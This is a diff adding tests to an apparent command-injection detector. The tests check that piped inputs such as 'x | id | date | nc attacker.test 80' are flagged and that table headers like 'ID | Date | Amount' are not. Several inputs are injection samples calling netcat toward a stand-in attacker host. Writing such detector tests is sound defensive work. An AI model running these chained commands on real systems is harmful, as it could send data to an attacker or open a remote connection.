@@ -1043,3 +1043,16 @@ describe('cmdi round 8: su given a user name runs nothing without a terminal (; 
     expectSameWhenSplit(d, [input], 'query');
   });
 });
+
+describe("cmdi round 8: after a strong table cell (ID | ...), a weak word is judged in its own command position", () => {
+  it.each([['x | id | date', 'cmdi.chained-command'], ['id | date', 'cmdi.chained-command'], ['x | id | sort', 'cmdi.chained-command'],
+    ['x | id | sleep 5', 'cmdi.chained-command'], ['id | time whoami', 'cmdi.chained-command'], ['x | id | date | nc attacker.test 80', 'cmdi.chained-command'],
+    ['ID | nc attacker.test 80', 'cmdi.command-with-args']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['Name | ID | Type | Status', 'ID | Date | Amount', 'ID | Type | Status', 'user_id|name|role'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
